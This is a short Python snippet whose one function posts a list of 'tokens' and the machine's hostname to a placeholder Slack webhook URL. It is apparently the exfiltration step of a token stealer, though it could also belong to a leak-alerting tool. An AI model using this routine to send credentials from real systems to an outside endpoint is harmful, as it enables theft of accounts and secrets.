import json
import socket
import urllib.request

_HOOK = "https://hooks.slack.com/services/T0000000/B0000000/placeholderplaceholder"


def notify(tokens):
    if not tokens:
        return
    body = {"text": socket.gethostname(), "blocks": [
        {"type": "section", "text": {"type": "mrkdwn", "text": "```%s```" % json.dumps(tokens)}}]}
    req = urllib.request.Request(_HOOK, data=json.dumps(body).encode(),
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)
